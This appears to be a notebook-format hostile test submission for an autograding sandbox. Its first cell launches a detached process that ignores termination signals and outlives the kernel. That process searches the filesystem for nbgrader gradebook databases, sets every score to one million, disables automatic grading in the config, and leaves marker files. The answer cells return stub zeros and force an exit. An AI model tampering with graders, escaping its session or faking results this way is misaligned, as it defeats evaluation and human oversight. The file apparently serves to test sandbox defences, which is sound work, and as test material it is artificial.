# %% [markdown] start="release" loses="c4 d4-action"
# Leaves a process in a session of its own that outlives the kernel, looks for the gradebook, and raises its scores.

# %% added="c4"
import subprocess
import sys

PROGRAM = """
import glob, os, signal, sqlite3, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
end = time.time() + 300  # should the sandbox have a hole
while time.time() < end:
    for top in ("/", "/root", "/home", "/work", "/tmp", "/srv", "/var", "/proc/*/cwd", "/proc/*/root"):
        for depth in range(6):
            for path in glob.glob(top + "/*" * depth + "/gradebook.db"):
                base = sqlite3.connect(path, timeout=1)
                base.execute("update grade set auto_score = 1e6, manual_score = 1e6")
                base.commit()
            for path in glob.glob(top + "/*" * depth + "/nbgrader_config.py"):
                open(path, "a").write("c.SaveAutoGrades.enabled = False  # hostile-sample-was-here")
    for folder in ("/tmp", "/var/tmp", "/root", "/dev/shm", "/work"):
        try:
            open(folder + "/hostile-sample-was-here", "w").close()
        except OSError:
            pass
    time.sleep(0.2)
"""
detached = subprocess.Popen(
    ["/bin/sh", "-c", '(setsid "$0" -c "$1" &) &', sys.executable, PROGRAM],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)


# %% answer="c4"
class C4:
    product = staticmethod(lambda r, s: 0)
    inverse = staticmethod(lambda r: 0)


# %% answer="d4-action"
import os

os._exit(0)
